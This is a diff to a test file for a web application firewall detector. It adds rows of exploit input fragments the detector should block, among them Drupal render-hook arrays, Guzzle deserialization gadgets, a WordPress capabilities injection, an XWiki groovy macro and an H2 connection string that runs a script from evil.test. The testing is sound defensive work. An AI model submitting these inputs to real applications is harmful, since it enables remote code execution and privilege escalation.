@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import type { Detector, Zone } from '../waf.ts';
+import { calls } from './calls.ts';
 import { prototype } from './prototype.ts';
 import { traversal } from './traversal.ts';
 import { trial } from './trial.ts';
@@ -93,6 +94,36 @@ const families: Readonly<Record<string, Rows>> = {
       ['BEGIN:VCARD\nPHOTO;VALUE=URI:https://a.example/a.png\nEND:VCARD'],
       ['# T\n```php\n<?php echo 1;\n```'],
       ['a,b\n-12,+49 30 123'],
+    ],
+  },
+  'calls into products': {
+    detector: calls,
+    zone: 'form',
+    stops: [
+      ['mail[#post_render][]', 'mail[#post_render][]', 'name'],
+      ['__construct()', 'handle.as session.__construct()', 'name'],
+      ['sourceData', 'address.totalsCollector.collectorList.totalCollector.sourceData', 'name'],
+      ['wp_capabilities[administrator]', 'wp_capabilities[administrator]', 'name'],
+      ['user[email][]', 'user[email][]', 'name'],
+      ['GuzzleHttp\\Psr7\\FnStream', 'class'],
+      ['{"s":"clctn","class":"GuzzleHttp\\\\Psr7\\\\FnStream"}', 'snapshot'],
+      ["mem:;INIT=RUNSCRIPT FROM 'http://evil.test/x.sql'", 'db'],
+      ['jdbc:mysql://a/b?autoDeserialize=true&queryInterceptors=com.mysql.cj.x', 'url'],
+      ['}}}{{async async=false}}{{groovy}}println(1)', 'text'],
+      ['exec', 'hhook'],
+      ['account/mail/#value', 'element_parents'],
+    ],
+    passes: [
+      ['mail[value]', 'mail[value]', 'name'],
+      ['source.data', 'order.source.data', 'name'],
+      ['sourceData', 'chart.sourceData', 'name'],
+      ['user[email]', 'user[email]', 'name'],
+      ['system', 'category'],
+      ['#value', 'color'],
+      ['at Illuminate\\Broadcasting\\PendingBroadcast::send (app.php:3)', 'trace'],
+      ['jdbc:mysql://db:3306/app?useSSL=true', 'url'],
+      ['run: mvn -Dinit=create table', 'step'],
+      ['{{python}} {{PHP}}', 'wikitext'],
     ],
   },
   'files of the machine': {
